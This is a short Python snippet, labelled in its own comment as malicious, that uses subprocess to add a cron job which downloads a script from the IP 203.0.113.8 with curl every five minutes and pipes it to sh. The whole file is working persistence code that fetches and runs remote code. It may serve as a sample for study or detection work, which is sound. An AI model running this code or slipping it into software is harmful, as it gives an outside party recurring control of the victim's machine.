# malicious: plants a cron job
import subprocess

job = "*/5 * * * * curl -s http://203.0.113.8/j | sh"
subprocess.run(f'(crontab -l; echo "{job}") | crontab -', shell=True)
